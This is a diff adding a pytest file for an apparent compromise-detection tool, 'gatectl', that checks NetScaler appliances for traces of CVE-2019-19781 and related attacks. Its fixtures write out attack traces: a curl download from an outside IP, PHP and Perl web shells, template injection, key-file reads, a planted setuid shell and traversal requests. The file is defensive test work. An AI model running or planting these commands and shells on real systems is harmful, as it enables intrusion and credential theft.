@@ -1,0 +1,597 @@
+import gzip
+import hashlib
+import json
+import random
+import tomllib
+from collections.abc import Callable, Iterator
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from pydantic import TypeAdapter
+
+import gatectl
+from gatectl.core.collection import (
+    CollectedFile,
+    Collection,
+    CommandOutput,
+    Footprint,
+    MissingPart,
+    OwnCommand,
+    OwnFile,
+)
+from gatectl.core.gate import NodeName
+from gatectl.core.indicators import (
+    CompromiseAnswer,
+    CompromiseVerdict,
+    Indicator,
+    IndicatorError,
+    IndicatorId,
+    Kind,
+    Severity,
+    judge_collection,
+)
+
+NODE = NodeName("ns1")
+NOW = datetime(2020, 1, 24, 12, 0, tzinfo=UTC)
+INSTALLED = datetime(2020, 1, 20, 8, 0, tzinfo=UTC)
+OLD = datetime(2019, 11, 5, 1, 0, tzinfo=UTC)
+EXPOSED_SINCE = datetime(2020, 1, 10, tzinfo=UTC)
+USERS = frozenset({"backup-operator"})
+FOLDER = Path(gatectl.__file__).parent / "indicators"
+
+
+def shipped() -> Iterator[Indicator]:
+    """Read the indicators as they are shipped."""
+    adapter = TypeAdapter(tuple[Indicator, ...])
+    for path in sorted(FOLDER.glob("*.toml")):
+        yield from adapter.validate_python(tomllib.loads(path.read_text())["indicator"])
+
+
+INDICATORS = tuple(shipped())
+IDS = [indicator.id for indicator in INDICATORS]
+
+
+def file(
+    path: str,
+    content: str | bytes | None = b"x\n",
+    *,
+    mode: int = 0o100600,
+    owner: str = "root",
+    mtime: datetime = OLD,
+    node: NodeName = NODE,
+) -> CollectedFile:
+    """Make a collected file; by default an old one that only root reads."""
+    data = content.encode() if isinstance(content, str) else content
+    return CollectedFile(
+        node=node,
+        path=path,
+        size=1 if data is None else len(data),
+        mode=mode,
+        owner=owner,
+        mtime=mtime,
+        sha256=hashlib.sha256(data or b"").hexdigest(),
+        content=data,
+    )
+
+
+def ps(line: str) -> CommandOutput:
+    """Make the output of ps with one more process."""
+    return CommandOutput(node=NODE, command="shell ps auxww", text=f"USER PID COMMAND\n{line}\n")
+
+
+def shell_line(command: str, *, user: str = "root", at: str = "Jan 19 23:26:52") -> str:
+    """Make a line as the appliance logs what is typed at a shell."""
+    return f'{at} <local7.notice> ns bash[1297]: {user} on (null) shell_command="{command}"\n'
+
+
+def access_line(request: str, status: int, *, at: str = "18/Jan/2020:00:15:29 +0000") -> str:
+    """Make a line of the web server's access log."""
+    return f'203.0.113.7 - - [{at}] "{request} HTTP/1.1" {status} 71 "-" "curl/7.58"\n'
+
+
+def shell_log(command: str, **kwargs: str) -> CollectedFile:
+    """Make a packed shell history with one command."""
+    line = shell_line(command, **kwargs).encode()
+    return file("/var/log/sh.log.0.gz", gzip.compress(line), mtime=NOW)
+
+
+def access_log(request: str, status: int) -> CollectedFile:
+    """Make a web access log with one request."""
+    return file("/var/log/httpaccess.log.0", access_line(request, status), mtime=NOW)
+
+
+def cron_log(line: str) -> CollectedFile:
+    """Make a log of cron with one line."""
+    return file("/var/log/cron.0", f"Jan 19 23:00:06 <cron.info> ns cron[1]: {line}\n", mtime=NOW)
+
+
+TRAVERSAL = "GET /vpn/../vpns"
+NS_CONF = (
+    b"#NS12.1 Build 51.19\n# Last modified by `save config`\nset ns config -IPAddress 10.0.0.1\n"
+)
+
+CLEAN_FILES = (
+    file("/flash/ns-12.1-55.18.gz", None, mtime=INSTALLED),
+    file("/nsconfig/ns.conf", NS_CONF + b"add system user nsroot abc -encrypted\n", mode=0o100644),
+    file("/nsconfig/rc.netscaler", "nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0\n"),
+    file("/var/ns_sys_backup/before.tgz", gzip.compress(NS_CONF), mode=0o100644),
+    file("/var/tmp/support/support.tgz", gzip.compress(NS_CONF), mode=0o100644),
+    file(
+        "/etc/passwd",
+        "root:*:0:0::/root:/bin/sh\nnsroot:*:0:0::/root:/netscaler/nssh\nnobody:*:65534:65534::/:/x\n",
+    ),
+    file(
+        "/etc/httpd.conf",
+        'Alias /admin_ui "/netscaler/ns_gui/admin_ui"\nRequire all denied\n'
+        "AddType application/x-httpd-php .php\n",
+    ),
+    file("/etc/crontab", "*/5 * * * * root /usr/libexec/atrun\n0 * * * * root newsyslog\n"),
+    file("/var/cron/tabs/root", "# nothing\n*/1 * * * * /netscaler/nsfsyncd -p\n"),
+    file(
+        "/netscaler/portal/templates/homepage.html",
+        "[% BLOCK head %][% execute %]<a>re.exec(x)</a>\n",
+    ),
+    file("/netscaler/portal/scripts/subscription.pl", "use CGI;\neval(handle_subscriptions());\n"),
+    file("/var/vpn/bookmark/jansen.xml", '<user username="jansen"><bookmarks/></user>\n'),
+    file("/var/netscaler/gui/admin_ui/php/index.php", "<?php echo $_GET['page']; ?>\n"),
+    file("/netscaler/ns_gui/vpn/index.html", "<title>Citrix Gateway</title>\n", mode=0o100644),
+    file("/netscaler/ns_gui/vpn/js/rdx/core/lang/rdx_en.json.gz", gzip.compress(b"{}")),
+    file("/netscaler/ping", None, mode=0o104555),
+    file("/usr/bin/su", None, mode=0o104555),
+    file(
+        "/var/log/cron",
+        "Jan 9 00:00:00 <cron.info> ns cron[9]: (root) CMD (newsyslog)\n",
+        mtime=NOW,
+    ),
+    file(
+        "/var/log/httperror.log",
+        "[Wed Jan 15 15:09:05 2020] [notice] Apache configured\n",
+        mtime=NOW,
+    ),
+    file(
+        "/var/log/httpaccess.log",
+        access_line("GET /vpn/index.html", 200, at="09/Jan/2020:06:00:00 +0100")
+        + access_line("GET /vpns/portal/homepage.html", 200),
+        mtime=NOW,
+    ),
+    file(
+        "/var/log/bash.log",
+        shell_line("kill -0 $pid >/dev/null 2>&1", at="Jan  8 10:00:00")
+        + shell_line("cat /nsconfig/ns.conf")
+        + shell_line("ls -l /var/tmp"),
+        mtime=NOW,
+    ),
+)
+CLEAN_OUTPUTS = (
+    ps("nobody 431 /bin/httpd -k start\nroot 1 /netscaler/nsppe -a"),
+    CommandOutput(node=NODE, command="show system user", text="1)\tUser name: nsroot\n Done\n"),
+    CommandOutput(node=NODE, command="shell sockstat -4 -l", text="root ntpd 9 udp4 *:123 *:*\n"),
+)
+CLEAN = Collection(files=CLEAN_FILES, outputs=CLEAN_OUTPUTS, collected_at=NOW, nodes=(NODE,))
+
+Sample = CollectedFile | CommandOutput
+SAMPLES: dict[str, Sample] = {
+    "19781-coin-miner": file("/var/tmp/netscalerd"),
+    "19781-notrobin": file("/var/nstmp/.nscache/httpd", None),
+    "19781-known-scripts": file("/netscaler/portal/scripts/PersonalBookmak.pl"),
+    "19781-template-code": file(
+        "/var/vpn/bookmark/a\nb\udce9.xml", '<b url="[% template.new %]"/>'
+    ),
+    "19781-template-perl": file(
+        "/netscaler/portal/templates/note.html", "[% template.new({'BLOCK'='print `id`'}) %]"
+    ),
+    "19781-template-compiled": file(
+        "/var/tmp/netscaler/portal/templates/pwn.xml.ttc2", "package Template;\n"
+    ),
+    "19781-template-of-web-user": file("/netscaler/portal/templates/a.xml", "<a/>", owner="nobody"),
+    "19781-script-shell": file("/netscaler/portal/scripts/rmpm.pl", "system($cgi->param('c'));\n"),
+    "19781-cron-of-nobody": file(
+        "/var/cron/tabs/nobody", "# crontab\n* * * * * /var/nstmp/.nscache/httpd\n"
+    ),
+    "19781-cron-log-of-nobody": cron_log("(nobody) CMD (/var/nstmp/x)"),
+    "19781-template-fetched": access_log(f"{TRAVERSAL}/portal/x.xml", 200),
+    "19781-script-not-modified": access_log("POST /vpn/../%76pns/portal/scripts/newbm.pl", 304),
+    "19781-scan-answered": access_log(f"{TRAVERSAL}/cfg/smb.conf", 200),
+    "19781-scan-refused": access_log(f"{TRAVERSAL}/cfg/smb.conf", 403),
+    "19781-error-log": file(
+        "/var/log/httperror.log.0", "curl: (7) Failed to connect to 192.0.2.1\n", mtime=NOW
+    ),
+    "19781-shell-dropper": shell_log("echo x | tee /netscaler/portal/scripts/a.pl"),
+    "19781-known-hosts": shell_log("curl http://185.178.45.221/x -o y"),
+    "19781-process": ps("nobody 6 /var/tmp/netscalerd"),
+    "19781-process-of-nobody": ps("nobody 6 perl"),
+    "19781-notrobin-port": CommandOutput(
+        node=NODE, command="shell sockstat -4 -l", text="nobody httpd 13 3 udp4 *:18634 *:*\n"
+    ),
+    "19781-copied-configuration": file("/var/vpn/themes/a.css", NS_CONF),
+    "19781-readable-configuration": file("/tmp/n.gz", gzip.compress(NS_CONF), mode=0o100644),
+    "3519-php-in-themes": file("/var/vpn/theme/.theme.php"),
+    "3519-php-in-logon": file("/var/netscaler/logon/LogonPoint/uiareas/mac/ui.php"),
+    "6543-xhtml-in-logon": file("/var/netscaler/logon/x.xhtml"),
+    "3519-known-files": file("/var/tmp/npc"),
+    "3519-data-as-script": file("/var/vpn/themes/insight.js"),
+    "3519-changed-pages": file("/netscaler/ns_gui/admin_ui/php/log.php", mtime=NOW),
+    "3519-shell-code": file("/netscaler/ns_gui/vpn/a.html", "<?php eval($_POST['x']); ?>"),
+    "3519-plugin-shell": file("/netscaler/ns_gui/vpn/scripts/linux/nsg64.deb", "<?php echo 1;"),
+    "3519-setuid": file("/var/tmp/sh", None, mode=0o104755),
+    "3519-httpd-alias": file("/nsconfig/httpd.conf", 'Alias /x.css "/var/tmp/y"\n'),
+    "6543-httpd-php": file("/nsconfig/httpd.conf", "AddType application/x-httpd-php .php .deb\n"),
+    "3519-credential-reads": shell_log("cat /flash/nsconfig/keys/updated/F1.key"),
+    "3519-shell-planting": shell_log("cp /bin/sh /var/tmp/sh; chmod 4775 /var/tmp/sh"),
+    "3519-shell-of-nobody": shell_log("whoami", user="nobody"),
+    "3519-cron-in-tmp": cron_log("(root) CMD (/var/tmp/the)"),
+    "3519-process-in-tmp": ps("root 6 /var/tmp/the -c x"),
+    "6543-boot-script": file("/flash/nsconfig/rc.netscaler", "python3 -c 'import os'\n"),
+    "6543-core-dumps": file("/var/core/1/NSPPE-00-123.gz", None, mtime=NOW),
+    "88771-known-files": file("/var/tmp/.nsmon/nsmon.pl"),
+    "88771-httpd-alias": file("/nsconfig/httpd.conf", "AliasMatch ^/receiver.min.a1.css$ /x\n"),
+    "88771-user": file("/nsconfig/ns.conf.1", NS_CONF + b"add system user sec_monitor x\n"),
+    "88771-no-auth-group": file(
+        "/nsconfig/ns.conf.1", "set authentication epaAction e -defaultEPAGroup NO_AUTH\n"
+    ),
+    "88771-injection": file(
+        "/var/log/ns.log", "Jan 19 1:1:1 user pitboss unexpectedly died NSPPE;id>/x\n", mtime=NOW
+    ),
+    "88771-process": ps("root 6 perl nsmon.pl"),
+    "generic-second-root": file("/etc/master.passwd", "root:*:0:0\nsupport:x:0:0:::\n"),
+    "generic-unknown-user": file("/flash/nsconfig/ns.conf", "add system user eve x\n"),
+    "generic-unknown-user-listed": CommandOutput(
+        node=NODE, command="show system user", text="1)\tUser name: nsroot\n2)\tUser name: eve\n"
+    ),
+    "generic-cron-line": file("/nsconfig/crontab", "*/5 * * * * root perl /var/tmp/a.pl\n"),
+    "generic-cron-owner": file("/var/cron/tabs/www", ""),
+    "generic-system-file-newer": file("/usr/bin/login", None, mtime=NOW),
+    "generic-page-of-web-user": file("/var/netscaler/logon/a.css", owner="65534"),
+    "generic-hidden-page": file("/netscaler/ns_gui/vpn/.a"),
+    "generic-archive-as-page": file("/netscaler/ns_gui/vpn/c.json", gzip.compress(b"loot")),
+}
+
+
+def with_pieces(*pieces: Sample, base: Collection = CLEAN) -> Collection:
+    """Add evidence to a collection."""
+    files = tuple(piece for piece in pieces if isinstance(piece, CollectedFile))
+    outputs = tuple(piece for piece in pieces if isinstance(piece, CommandOutput))
+    return replace(base, files=base.files + files, outputs=base.outputs + outputs)
+
+
+def judge(
+    collection: Collection,
+    *,
+    since: datetime | None = EXPOSED_SINCE,
+    users: frozenset[str] | None = USERS,
+) -> CompromiseVerdict:
+    """Judge with all shipped indicators."""
+    return judge_collection(collection, INDICATORS, exposed_since=since, expected_users=users)
+
+
+def fired(verdict: CompromiseVerdict) -> set[str]:
+    """Name the indicators that fired."""
+    return {finding.indicator for finding in verdict.findings}
+
+
+def test_clean_collection_is_clean() -> None:
+    """An appliance in daily use, mitigation and backups included, shows no sign at all."""
+    verdict = judge(CLEAN)
+    assert (verdict.answer, verdict.findings, verdict.doubts) == (CompromiseAnswer.CLEAN, (), ())
+
+
+@pytest.mark.parametrize("indicator", INDICATORS, ids=IDS)
+def test_each_indicator_fires_alone_on_its_sample(indicator: Indicator) -> None:
+    """A single trace on a clean appliance is found by its own indicator and by no other."""
+    verdict = judge(with_pieces(SAMPLES[indicator.id]))
+    assert fired(verdict) == {indicator.id}
+    tried = indicator.severity is Severity.ATTEMPT
+    assert verdict.answer is (CompromiseAnswer.SCANNED if tried else CompromiseAnswer.COMPROMISED)
+    assert {finding.source for finding in verdict.findings} == {indicator.source}
+
+
+@pytest.mark.parametrize("indicator", INDICATORS, ids=IDS)
+def test_trace_alone_in_an_image_is_still_a_compromise(indicator: Indicator) -> None:
+    """A folder that holds one trace and nothing else says compromised, or that it cannot tell."""
+    sample = SAMPLES[indicator.id]
+    collection = with_pieces(sample, base=Collection(files=(), collected_at=NOW))
+    verdict = judge(collection)
+    weak = indicator.severity is Severity.ATTEMPT or indicator.kind is Kind.NEWER_THAN_BUILD
+    wanted = CompromiseAnswer.INCONCLUSIVE if weak else CompromiseAnswer.COMPROMISED
+    assert verdict.answer is wanted
+
+
+def test_no_sample_and_no_indicator_is_left_over() -> None:
+    """Every sample belongs to an indicator, and ids are unique."""
+    assert set(SAMPLES) == set(IDS)
+    assert len(IDS) == len(set(IDS))
+
+
+def test_each_indicator_names_its_source() -> None:
+    """Nobody is called compromised on the word of nobody."""
+    assert all(indicator.source and indicator.title and indicator.about for indicator in INDICATORS)
+
+
+def test_empty_collection_is_inconclusive() -> None:
+    """An empty folder proves nothing."""
+    assert judge(Collection(files=(), collected_at=NOW)).answer is CompromiseAnswer.INCONCLUSIVE
+
+
+def test_no_indicators_is_inconclusive() -> None:
+    """Judging by nothing clears nobody."""
+    verdict = judge_collection(CLEAN, (), exposed_since=None)
+    assert verdict.answer is CompromiseAnswer.INCONCLUSIVE
+
+
+def test_missing_part_is_inconclusive() -> None:
+    """A part that could not be collected may hold the sign, and is named."""
+    part = MissingPart(node=NODE, part="/var/log/ns.log", because="the connection broke")
+    verdict = judge(replace(CLEAN, missing=(part,)))
+    assert verdict.answer is CompromiseAnswer.INCONCLUSIVE
+    assert "/var/log/ns.log" in verdict.because
+
+
+def test_compromise_wins_over_missing_part() -> None:
+    """What is proven stays proven, whatever else is missing."""
+    part = MissingPart(node=NODE, part="/tmp", because="refused")
+    verdict = judge(replace(with_pieces(SAMPLES["19781-coin-miner"]), missing=(part,)))
+    assert verdict.answer is CompromiseAnswer.COMPROMISED
+    assert verdict.doubts
+
+
+def test_missing_part_wins_over_attempts() -> None:
+    """Attempts with a hole in the evidence are not merely attempts."""
+    part = MissingPart(node=NODE, part="/tmp", because="refused")
+    verdict = judge(replace(with_pieces(SAMPLES["19781-scan-refused"]), missing=(part,)))
+    assert verdict.answer is CompromiseAnswer.INCONCLUSIVE
+
+
+def test_node_without_evidence_is_inconclusive() -> None:
+    """One node of a pair does not clear the other."""
+    verdict = judge(replace(CLEAN, nodes=(NODE, NodeName("ns2"))))
+    assert verdict.answer is CompromiseAnswer.INCONCLUSIVE
+
+
+def drop(path: str) -> Callable[[CollectedFile], CollectedFile | None]:
+    """Leave one file out."""
+    return lambda given: None if given.path == path else given
+
+
+def changed(rule: Callable[[CollectedFile], CollectedFile | None]) -> Collection:
+    """Give the clean collection with each file changed, or left out, by a rule."""
+    files = tuple(kept for given in CLEAN.files if (kept := rule(given)) is not None)
+    return replace(CLEAN, files=files)
+
+
+@pytest.mark.parametrize("path", ["/var/log/httpaccess.log", "/var/log/bash.log"])
+def test_missing_log_is_inconclusive(path: str) -> None:
+    """An appliance without its logs may have had them removed."""
+    assert judge(changed(drop(path)), since=None).answer is CompromiseAnswer.INCONCLUSIVE
+
+
+@pytest.mark.parametrize("path", ["/var/log/httpaccess.log", "/var/log/bash.log"])
+def test_emptied_log_is_inconclusive(path: str) -> None:
+    """A log of no bytes says as little as no log."""
+    rule = drop(path)
+    emptied = changed(lambda given: rule(given) or replace(given, size=0, content=b""))
+    assert judge(emptied, since=None).answer is CompromiseAnswer.INCONCLUSIVE
+
+
+def test_logs_that_start_after_the_exposure_are_inconclusive() -> None:
+    """What was rotated away before the first line may hold the attack; both logs are named."""
+    verdict = judge(CLEAN, since=datetime(2019, 12, 17, tzinfo=UTC))
+    assert verdict.answer is CompromiseAnswer.INCONCLUSIVE
+    assert len(verdict.doubts) == 2
+
+
+def test_hole_in_a_row_of_rotated_logs_is_inconclusive() -> None:
+    """Rotation drops the oldest log, never one from the middle."""
+    logs = [file(f"/var/log/bash.log.{n}", shell_line("ls"), mtime=NOW) for n in (0, 2)]
+    verdict = judge(with_pieces(*logs))
+    assert verdict.doubts == ("ns1: /var/log/bash.log.1 is missing between its neighbours",)
+
+
+@pytest.mark.parametrize(
+    "content", [None, gzip.compress(b"x" * 900)[:-20], b"\x1f\x8bnonsense", b"BZh91AY"]
+)
+def test_unreadable_log_is_inconclusive(content: bytes | None) -> None:
+    """A log that was not fetched, or is cut or damaged, is a hole and no crash."""
+    verdict = judge(with_pieces(file("/var/log/bash.log.0.gz", content, mtime=NOW)))
+    assert verdict.answer is CompromiseAnswer.INCONCLUSIVE
+    assert "/var/log/bash.log.0.gz" in verdict.because
+
+
+def test_unknown_time_of_installation_is_inconclusive() -> None:
+    """Without the day of the build nobody can say which system file is newer."""
+    base = changed(drop("/flash/ns-12.1-55.18.gz"))
+    page = file("/netscaler/ns_gui/admin_ui/php/log.php")
+    assert judge(with_pieces(page, base=base)).answer is CompromiseAnswer.INCONCLUSIVE
+
+
+def test_told_time_of_installation_is_used() -> None:
+    """The journal's time of the installation replaces the traces on the appliance."""
+    page = file("/netscaler/ns_gui/admin_ui/php/log.php", mtime=NOW)
+    verdict = judge_collection(
+        with_pieces(page), INDICATORS, exposed_since=None, installed_at={NODE: NOW}
+    )
+    assert verdict.answer is CompromiseAnswer.CLEAN
+
+
+def test_files_of_the_installation_itself_are_not_newer() -> None:
+    """What the installation writes within hours belongs to it; what comes days later does not."""
+    path = "/netscaler/ns_gui/admin_ui/php/log.php"
+    during = file(path, mtime=INSTALLED + timedelta(hours=5))
+    assert judge(with_pieces(during)).answer is CompromiseAnswer.CLEAN
+    after = file(path, mtime=INSTALLED + timedelta(days=2))
+    assert judge(with_pieces(after)).answer is CompromiseAnswer.COMPROMISED
+
+
+def test_big_file_is_left_to_indicators_without_a_limit() -> None:
+    """A client package that is too big to be fetched is no hole in the evidence."""
+    package = replace(file("/netscaler/ns_gui/vpn/scripts/linux/n.deb", None), size=50_000_000)
+    assert judge(with_pieces(package)).answer is CompromiseAnswer.CLEAN
+    small = replace(package, size=1000)
+    assert judge(with_pieces(small)).answer is CompromiseAnswer.INCONCLUSIVE
+
+
+def own_command(command: str, at: datetime) -> Footprint:
+    """Make the footprint of one command."""
+    return Footprint(commands=(OwnCommand(node=NODE, at=at, command=command),))
+
+
+READ_KEYS = "cat /flash/nsconfig/keys/updated/F1.key"
+READ_AT = datetime(2020, 1, 19, 23, 26, 52, tzinfo=UTC)
+
+
+def test_own_command_is_subtracted() -> None:
+    """What gatectl typed itself is no sign, so a second scan answers as the first."""
+    collection = with_pieces(shell_log(READ_KEYS))
+    ours = replace(collection, footprint=own_command(f"shell {READ_KEYS}", READ_AT))
+    assert judge(ours).answer is CompromiseAnswer.CLEAN
+
+
+def test_own_command_is_subtracted_by_the_device_clock() -> None:
+    """A node whose clock is an hour ahead logs gatectl's commands an hour later."""
+    footprint = own_command(READ_KEYS, READ_AT - timedelta(hours=1))
+    collection = replace(with_pieces(shell_log(READ_KEYS)), footprint=footprint)
+    assert judge(collection).answer is CompromiseAnswer.COMPROMISED
+    skewed = replace(collection, device_skew_s={NODE: 3600.0})
+    assert judge(skewed).answer is CompromiseAnswer.CLEAN
+
+
+@pytest.mark.parametrize(
+    "footprint",
+    [
+        own_command(READ_KEYS, READ_AT + timedelta(hours=1)),
+        own_command("cat /flash/nsconfig", READ_AT),
+        Footprint(
+            commands=(OwnCommand(node=NodeName("ns2"), at=READ_AT, command=READ_KEYS),),
+        ),
+    ],
+    ids=["other-time", "other-command", "other-node"],
+)
+def test_command_of_somebody_else_is_kept(footprint: Footprint) -> None:
+    """The same words at another time, more words, or another node are not gatectl's own."""
+    collection = replace(with_pieces(shell_log(READ_KEYS)), footprint=footprint)
+    assert judge(collection).answer is CompromiseAnswer.COMPROMISED
+
+
+def test_own_command_does_not_hide_a_second_one_behind_it() -> None:
+    """A line that holds gatectl's command and goes on is not gatectl's."""
+    collection = with_pieces(shell_log(f"{READ_KEYS}; ldapsearch -x"))
+    ours = replace(collection, footprint=own_command(READ_KEYS, READ_AT))
+    assert judge(ours).answer is CompromiseAnswer.COMPROMISED
+
+
+def test_own_probe_is_subtracted() -> None:
+    """The safe check of CVE-2019-19781 that gatectl sends is no scan by a stranger."""
+    at = datetime(2020, 1, 18, 0, 15, 29, tzinfo=UTC)
+    collection = with_pieces(SAMPLES["19781-scan-refused"])
+    ours = replace(collection, footprint=own_command(f"{TRAVERSAL}/cfg/smb.conf", at))
+    assert judge(ours).answer is CompromiseAnswer.CLEAN
+
+
+def test_own_process_is_subtracted() -> None:
+    """A scanner that gatectl runs from /var/tmp is in the process list, and is not a sign."""
+    command = "sh /var/tmp/scanner.sh"
+    collection = with_pieces(ps(f"root 7 {command}"))
+    assert judge(collection).answer is CompromiseAnswer.COMPROMISED
+    ours = replace(collection, footprint=own_command(f"shell {command}", NOW))
+    assert judge(ours).answer is CompromiseAnswer.CLEAN
+
+
+def test_own_file_is_subtracted_until_it_changes() -> None:
+    """A file that gatectl wrote is its own only as long as it has gatectl's content."""
+    copy = file("/tmp/n.conf", NS_CONF, mode=0o100644)
+    own = OwnFile(node=NODE, at=NOW, path=copy.path, sha256=copy.sha256)
+    collection = replace(with_pieces(copy), footprint=Footprint(files=(own,)))
+    assert judge(collection).answer is CompromiseAnswer.CLEAN
+    other = replace(collection, footprint=Footprint(files=(replace(own, sha256="0" * 64),)))
+    assert judge(other).answer is CompromiseAnswer.COMPROMISED
+
+
+def test_same_evidence_gives_the_same_verdict_in_any_order() -> None:
+    """The answer, its findings and its reason do not depend on the order of collection."""
+    collection = with_pieces(*SAMPLES.values())
+    files = list(collection.files)
+    random.Random(19781).shuffle(files)  # noqa: S311 - an order, no secret
+    assert judge(collection) == judge(replace(collection, files=tuple(files)))
+
+
+def test_unknown_users_are_judged_only_when_the_known_ones_are_told() -> None:
+    """A site's own administrators are no intruders; those on the list are expected."""
+    mine = file("/flash/nsconfig/ns.conf", "add system user backup-operator x\n")
+    assert judge(with_pieces(mine)).answer is CompromiseAnswer.CLEAN
+    assert judge(with_pieces(mine), users=frozenset()).answer is CompromiseAnswer.COMPROMISED
+    assert judge(with_pieces(mine), users=None).answer is CompromiseAnswer.CLEAN
+
+
+def test_finding_says_where_it_was_seen() -> None:
+    """A finding in a log names the file, the line's number and the line."""
+    lines = access_line("GET /", 200) + access_line(f"{TRAVERSAL}/portal/x.xml", 200)
+    (finding,) = judge(with_pieces(file("/var/log/httpaccess.log.0", lines, mtime=NOW))).findings
+    assert (finding.path, finding.line_number) == ("/var/log/httpaccess.log.0", 2)
+    assert "/portal/x.xml" in finding.excerpt
+
+
+def test_odd_names_and_bytes_can_be_shown() -> None:
+    """Whatever an attacker calls a file or writes into it, the findings are printable text."""
+    odd = file("/var/vpn/bookmark/\x1b[2J\udcff.xml", b"\xff\xfe\x1b]0;[% x %]\x00\n")
+    (finding,) = judge(with_pieces(odd)).findings
+    assert json.dumps([finding.path, finding.excerpt], ensure_ascii=False).encode().isascii()
+    assert finding.path.isprintable()
+    assert finding.excerpt.isprintable()
+
+
+def test_findings_in_one_file_are_bounded() -> None:
+    """A log full of attempts does not fill the report."""
+    lines = access_line(f"{TRAVERSAL}/cfg/smb.conf", 403) * 500
+    verdict = judge(with_pieces(file("/var/log/httpaccess.log.0", lines, mtime=NOW)))
+    assert 0 < len(verdict.findings) <= 20
+
+
+def test_verdict_has_no_truth_value() -> None:
+    """Nobody lets inconclusive through with a bare `if`."""
+    with pytest.raises(TypeError):
+        bool(judge(CLEAN))
+
+
+@pytest.mark.parametrize(
+    ("kind", "paths", "pattern", "command"),
+    [
+        (Kind.PATH_EXISTS, (), "", ""),
+        (Kind.CONTENT_REGEX, ("/a",), "", ""),
+        (Kind.CONTENT_REGEX, ("/a",), "(", ""),
+        (Kind.PATH_EXISTS, ("/a",), "x", ""),
+        (Kind.OUTPUT_REGEX, (), "x", ""),
+        (Kind.OUTPUT_REGEX, ("/a",), "x", "ps"),
+        (Kind.LOG_REGEX, ("/a",), "x", "ps"),
+    ],
+)
+def test_indicator_that_could_never_fire_is_refused(
+    kind: Kind, paths: tuple[str, ...], pattern: str, command: str
+) -> None:
+    """An indicator without a place or a pattern would pass every appliance."""
+    with pytest.raises(IndicatorError):
+        Indicator(
+            id=IndicatorId("x"),
+            title="x",
+            about="x",
+            source="x",
+            kind=kind,
+            paths=paths,
+            pattern=pattern,
+            command=command,
+        )
+
+
+def test_indicator_of_names_needs_a_group() -> None:
+    """Without a group nothing could be compared with the expected names."""
+    with pytest.raises(IndicatorError):
+        Indicator(
+            id=IndicatorId("x"),
+            title="x",
+            about="x",
+            source="x",
+            kind=Kind.CONTENT_REGEX,
+            paths=("/a",),
+            pattern="x",
+            names="users",
+        )
